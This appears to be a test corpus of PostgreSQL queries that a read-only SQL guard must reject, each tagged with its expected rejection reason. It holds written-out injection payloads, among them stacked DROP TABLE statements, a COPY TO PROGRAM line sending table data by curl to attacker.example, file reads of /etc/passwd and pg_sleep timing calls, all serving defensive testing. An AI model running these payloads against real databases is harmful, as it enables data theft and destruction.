-- sqlguard corpus: PostgreSQL queries the guard must REJECT.
--
-- Format (shared by all four corpus files, simple enough for a C or node reader):
--   * UTF-8 text, lines end with "\n".
--   * Records are separated by lines that are exactly "-- @@".
--   * Everything before the first "-- @@" line is this header (not a record).
--   * In a record, a line starting with "-- expect: " is metadata: the rest
--     of the line is a substring the guard's rejection reason must contain.
--     Such a line is also a plain SQL comment, so a record sent as-is to a
--     server still means the same thing.
--   * The SQL of a record is its other lines joined with "\n" (no final
--     newline). Records with no SQL left are ignored.
-- Tables are those of tests/fixtures/pg.sql (customers, orders, ...).
-- @@
-- expect: only one statement
SELECT 1; DROP TABLE customers
-- @@
-- expect: only one statement
COMMIT; DROP TABLE customers
-- @@
-- expect: only one statement
END; DELETE FROM customers
-- @@
-- expect: only one statement
ROLLBACK; UPDATE customers SET name = 'x'
-- @@
-- expect: only one statement
SELECT 1; COMMIT; INSERT INTO customers (name) VALUES ('x')
-- @@
-- expect: only one statement
SELECT 1 /* */; DROP TABLE customers
-- @@
-- expect: only one statement
SELECT 1 -- 
; DROP TABLE customers
-- @@
-- expect: only one statement
SELECT 1 /* /* */ */; DROP TABLE customers
-- @@
-- expect: only one statement
SELECT $$x$$; DROP TABLE customers
-- @@
-- expect: only one statement
SELECT $tag$ $$ ; $tag$; DELETE FROM customers
-- @@
-- expect: only one statement
SELECT 'a\'; DROP TABLE customers; --'
-- @@
-- expect: only one statement
SELECT E'\''; DROP TABLE customers
-- @@
-- expect: only one statement
SELECT U&'\0027'; DROP TABLE customers
-- @@
-- expect: function pg_sleep is not allowed
SELECT U&"pg\005fsleep"(1)
-- @@
-- expect: syntax error
SELECT 1 \; DROP TABLE customers
-- @@
-- expect: syntax error
SELECT 1 ; garbage here
-- @@
-- expect: data-modifying CTE: DELETE
WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d
-- @@
-- expect: data-modifying CTE: UPDATE
WITH u AS (UPDATE customers SET name = 'x' RETURNING id) SELECT * FROM u
-- @@
-- expect: data-modifying CTE: INSERT
WITH i AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) SELECT * FROM i
-- @@
-- expect: data-modifying CTE: DELETE
WITH a AS (WITH b AS (DELETE FROM orders RETURNING id) SELECT id FROM b) SELECT * FROM a
-- @@
-- expect: data-modifying CTE: DELETE
SELECT * FROM (WITH d AS (DELETE FROM order_lines RETURNING order_id) SELECT * FROM d) AS s
-- @@
-- expect: data-modifying CTE: UPDATE
SELECT 1 WHERE EXISTS (WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT 1 FROM u)
-- @@
-- expect: SELECT INTO creates a table
SELECT * INTO customers_copy FROM customers
-- @@
-- expect: SELECT INTO creates a table
SELECT id INTO TEMPORARY TABLE t FROM customers
-- @@
-- expect: only SELECT is allowed, got COPY
COPY customers TO PROGRAM 'curl -d @- http://attacker.example/'
-- @@
-- expect: only SELECT is allowed, got COPY
COPY (SELECT * FROM customers) TO '/tmp/customers.csv'
-- @@
-- expect: only SELECT is allowed, got SET
SET default_transaction_read_only = off
-- @@
-- expect: only SELECT is allowed, got SET
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- @@
-- expect: only SELECT is allowed, got SET
SET TRANSACTION READ WRITE
-- @@
-- expect: only SELECT is allowed, got SET
RESET ALL
-- @@
-- expect: only SELECT is allowed, got BEGIN
BEGIN READ WRITE
-- @@
-- expect: only SELECT is allowed, got START TRANSACTION
START TRANSACTION READ WRITE
-- @@
-- expect: FOR UPDATE locks rows
SELECT * FROM customers FOR UPDATE
-- @@
-- expect: FOR SHARE locks rows
SELECT * FROM customers FOR SHARE
-- @@
-- expect: FOR NO KEY UPDATE locks rows
SELECT * FROM customers FOR NO KEY UPDATE
-- @@
-- expect: FOR KEY SHARE locks rows
SELECT * FROM customers FOR KEY SHARE SKIP LOCKED
-- @@
-- expect: locks rows
SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders FOR UPDATE)
-- @@
-- expect: function pg_sleep is not allowed
SELECT pg_sleep(1)
-- @@
-- expect: function pg_sleep is not allowed
SELECT PG_SLEEP(1)
-- @@
-- expect: function pg_sleep is not allowed
SELECT pg_catalog.pg_sleep(1)
-- @@
-- expect: function pg_sleep is not allowed
SELECT "pg_sleep"(1)
-- @@
-- expect: function pg_sleep is not allowed
SELECT pg_catalog."pg_sleep"(1)
-- @@
-- expect: function PG_SLEEP is not allowed
SELECT "PG_SLEEP"(1)
-- @@
-- expect: function pg_sleep_for is not allowed
SELECT pg_sleep_for('5 seconds')
-- @@
-- expect: function pg_sleep_until is not allowed
SELECT pg_sleep_until(now() + interval '5 seconds')
-- @@
-- expect: function pg_sleep is not allowed
SELECT (SELECT pg_sleep(1)) AS x FROM customers
-- @@
-- expect: function pg_sleep is not allowed
SELECT CASE WHEN id > 0 THEN pg_sleep(1) END FROM customers
-- @@
-- expect: function pg_sleep is not allowed
SELECT * FROM customers c CROSS JOIN LATERAL (SELECT pg_sleep(1)) AS s
-- @@
-- expect: function pg_sleep is not allowed
SELECT * FROM customers ORDER BY pg_sleep(1)
-- @@
-- expect: function pg_sleep is not allowed
SELECT * FROM pg_sleep(1)
-- @@
-- expect: function pg_sleep is not allowed
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1)) AS r
-- @@
-- expect: function pg_sleep is not allowed
SELECT count(*) OVER (ORDER BY pg_sleep(1)) FROM customers
-- @@
-- expect: function pg_sleep is not allowed
SELECT * FROM (VALUES (1, pg_sleep(1))) AS v (a, b)
-- @@
-- expect: function pg_sleep is not allowed
SELECT name FROM customers GROUP BY name HAVING count(*) > 0 OR pg_sleep(1) IS NULL
-- @@
-- expect: function pg_sleep is not allowed
SELECT ARRAY[pg_sleep(1)::text] AS a
-- @@
-- expect: function pg_sleep is not allowed
SELECT 1 UNION ALL SELECT 2 FROM (SELECT pg_sleep(1)) AS s
-- @@
-- expect: function pg_sleep is not allowed
SELECT coalesce(name, pg_sleep(1)::text) FROM customers
-- @@
-- expect: function pg_sleep is not allowed
SELECT (0.1::float8).pg_sleep
-- @@
-- expect: function pg_sleep is not allowed
SELECT g.pg_sleep FROM generate_series(1, 1) AS g
-- @@
-- expect: function pg_sleep is not allowed
SELECT pg_catalog.pg_sleep FROM generate_series(1, 1) AS pg_catalog
-- @@
-- expect: function nextval is not allowed
SELECT s.nextval FROM unnest(ARRAY['customers_id_seq'::regclass]) AS s
-- @@
-- expect: function pg_advisory_lock is not allowed
SELECT (id::bigint).pg_advisory_lock FROM customers
-- @@
-- expect: function lo_import is not allowed
SELECT lo_import('/etc/passwd')
-- @@
-- expect: function lo_export is not allowed
SELECT lo_export(16384, '/tmp/x')
-- @@
-- expect: function pg_read_file is not allowed
SELECT pg_read_file('/etc/passwd')
-- @@
-- expect: function pg_read_binary_file is not allowed
SELECT pg_read_binary_file('postgresql.conf')
-- @@
-- expect: function pg_ls_dir is not allowed
SELECT * FROM pg_ls_dir('.')
-- @@
-- expect: function pg_ls_waldir is not allowed
SELECT * FROM pg_ls_waldir()
-- @@
-- expect: function pg_stat_file is not allowed
SELECT pg_stat_file('postgresql.conf')
-- @@
-- expect: function dblink_exec is not allowed
SELECT dblink_exec('dbname=vz_test', 'DROP TABLE customers')
-- @@
-- expect: function dblink is not allowed
SELECT * FROM dblink('dbname=vz_test', 'DELETE FROM customers RETURNING id') AS t (id int)
-- @@
-- expect: function query_to_xml is not allowed
SELECT query_to_xml('delete from x', true, true, '')
-- @@
-- expect: function table_to_xml is not allowed
SELECT table_to_xml('customers', true, true, '')
-- @@
-- expect: function ts_stat is not allowed
SELECT * FROM ts_stat('SELECT to_tsvector(name) FROM customers')
-- @@
-- expect: function nextval is not allowed
SELECT nextval('customers_id_seq')
-- @@
-- expect: function setval is not allowed
SELECT * FROM customers WHERE id = (SELECT setval('customers_id_seq', 1))
-- @@
-- expect: function set_config is not allowed
SELECT set_config('default_transaction_read_only', 'off', false)
-- @@
-- expect: function pg_advisory_lock is not allowed
SELECT pg_advisory_lock(1)
-- @@
-- expect: function pg_try_advisory_xact_lock is not allowed
SELECT pg_try_advisory_xact_lock(1)
-- @@
-- expect: function txid_current is not allowed
SELECT txid_current()
-- @@
-- expect: function pg_current_xact_id is not allowed
SELECT pg_current_xact_id()
-- @@
-- expect: function pg_terminate_backend is not allowed
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
-- @@
-- expect: function pg_cancel_backend is not allowed
SELECT pg_cancel_backend(1)
-- @@
-- expect: function pg_reload_conf is not allowed
SELECT pg_reload_conf()
-- @@
-- expect: function pg_notify is not allowed
SELECT pg_notify('channel', 'payload')
-- @@
-- expect: function pg_create_logical_replication_slot is not allowed
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
-- @@
-- expect: function pg_logical_emit_message is not allowed
SELECT pg_logical_emit_message(true, 'p', 'x')
-- @@
-- expect: function pg_stat_reset is not allowed
SELECT pg_stat_reset()
-- @@
-- expect: function pg_switch_wal is not allowed
SELECT pg_switch_wal()
-- @@
-- expect: function pg_file_write is not allowed
SELECT pg_file_write('x', 'y', false)
-- @@
-- expect: function pg_export_snapshot is not allowed
SELECT pg_export_snapshot()
-- @@
-- expect: only SELECT is allowed, got CALL
CALL p()
-- @@
-- expect: only SELECT is allowed, got DO
DO $$ BEGIN DELETE FROM customers; END $$
-- @@
-- expect: only SELECT is allowed, got EXPLAIN
EXPLAIN ANALYZE DELETE FROM customers
-- @@
-- expect: only SELECT is allowed, got CREATE TABLE AS
CREATE TABLE customers_copy AS SELECT * FROM customers
-- @@
-- expect: only SELECT is allowed, got CREATE MATERIALIZED VIEW
CREATE MATERIALIZED VIEW mv AS SELECT 1
-- @@
-- expect: only SELECT is allowed, got PREPARE
PREPARE p AS DELETE FROM customers
-- @@
-- expect: only SELECT is allowed, got EXECUTE
EXECUTE p
-- @@
-- expect: only SELECT is allowed, got VACUUM
VACUUM customers
-- @@
-- expect: only SELECT is allowed, got LISTEN
LISTEN channel
-- @@
-- expect: only SELECT is allowed, got NOTIFY
NOTIFY channel, 'payload'
-- @@
-- expect: only SELECT is allowed, got INSERT
INSERT INTO customers (name) VALUES ('x')
-- @@
-- expect: only SELECT is allowed, got UPDATE
UPDATE customers SET name = 'x'
-- @@
-- expect: only SELECT is allowed, got DELETE
DELETE FROM customers
-- @@
-- expect: only SELECT is allowed, got MERGE
MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN MATCHED THEN DELETE
-- @@
-- expect: only SELECT is allowed, got TRUNCATE
TRUNCATE customers
-- @@
-- expect: only SELECT is allowed, got LOCK
LOCK TABLE customers IN ACCESS EXCLUSIVE MODE
-- @@
-- expect: only SELECT is allowed, got DECLARE CURSOR
DECLARE c CURSOR FOR SELECT * FROM customers
-- @@
-- expect: only SELECT is allowed, got DROP
DROP TABLE customers
-- @@
-- expect: only SELECT is allowed, got GRANT
GRANT ALL ON customers TO PUBLIC
-- @@
-- expect: only SELECT is allowed, got SHOW
SHOW default_transaction_read_only
-- @@
-- expect: empty statement
;SELECT 1
-- @@
-- expect: empty statement
SELECT 1;;
